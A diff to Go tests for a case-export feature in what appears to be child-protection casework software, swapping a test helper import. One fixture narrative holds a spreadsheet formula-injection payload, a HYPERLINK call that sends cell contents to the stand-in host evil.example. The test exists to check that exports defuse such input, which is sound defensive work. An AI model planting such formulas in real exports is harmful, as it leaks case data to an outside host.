@@ -13,9 +13,9 @@ import (
 	"testing"
 	"time"
 
+	"github.com/salama-ke/salama/internal/app/apptest"
 	"github.com/salama-ke/salama/internal/audit"
 	"github.com/salama-ke/salama/internal/casework"
-	"github.com/salama-ke/salama/internal/casework/caseworktest"
 	"github.com/salama-ke/salama/internal/directory"
 	"github.com/salama-ke/salama/internal/referral"
 	"github.com/salama-ke/salama/internal/reporting"
@@ -68,26 +68,26 @@ func TestCaseExport(t *testing.T) {
 		s.AddEnrolledUser(child, "child-admin", staff.RoleOrgAdmin)
 		// The organisation's cases, one with words and identifiers a
 		// spreadsheet would run as formulas.
-		evil := s.Submit(caseworktest.Report(func(in *reporting.Input) {
+		evil := s.Submit(apptest.Report(func(in *reporting.Input) {
 			in.Narrative = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
 			in.AllowMatch = true
 			in.Identifiers = []reporting.Identifier{{Type: "phone", Value: "0712 345 678"}, {Type: "handle", Platform: "telegram", Value: "@cmd"}}
 		}))
-		plain := s.Submit(caseworktest.Report(func(in *reporting.Input) { in.Narrative = "Plain-7781" }))
-		tabbed := s.Submit(caseworktest.Report(func(in *reporting.Input) { in.Narrative = "\t-2+3" }))
-		gone := s.Submit(caseworktest.Report(func(in *reporting.Input) { in.Narrative = "Withdrawn-4410" }))
+		plain := s.Submit(apptest.Report(func(in *reporting.Input) { in.Narrative = "Plain-7781" }))
+		tabbed := s.Submit(apptest.Report(func(in *reporting.Input) { in.Narrative = "\t-2+3" }))
+		gone := s.Submit(apptest.Report(func(in *reporting.Input) { in.Narrative = "Withdrawn-4410" }))
 		if err := s.App.Store.Withdraw(s.Ctx(), gone.Report.ID, s.Clock.Now()); err != nil {
 			t.Fatal(err)
 		}
 		// Another organisation's case, and a referral from it to this
 		// organisation: included once accepted, with what was shared.
-		theirs := s.Submit(caseworktest.Report(func(in *reporting.Input) {
+		theirs := s.Submit(apptest.Report(func(in *reporting.Input) {
 			in.About, in.AgeBand, in.County, in.Narrative = "child", "13-15", "nairobi", "Theirs-9902"
 		}))
 		if theirs.Report.OrgID != child.Org.ID {
 			t.Fatalf("a child's report went to %s", theirs.Report.OrgID)
 		}
-		referred := s.Submit(caseworktest.Report(func(in *reporting.Input) {
+		referred := s.Submit(apptest.Report(func(in *reporting.Input) {
 			in.About, in.AgeBand, in.County, in.Narrative = "child", "16-17", "nairobi", "Shared-5150"
 		}))
 		cp := s.Principal("demo-child-caseworker")
@@ -245,7 +245,7 @@ func TestCaseExport(t *testing.T) {
 // sealed, a period to choose, and problems that keep the choices.
 func TestCaseExportGBVIMS(t *testing.T) {
 	s := sqliteSite(t)
-	sub := s.Submit(caseworktest.Report(func(in *reporting.Input) {
+	sub := s.Submit(apptest.Report(func(in *reporting.Input) {
 		in.Narrative, in.County, in.AgeBand = "Sealed-3131", "mombasa", "18-24"
 	}))
 	p := s.Principal("demo-caseworker")
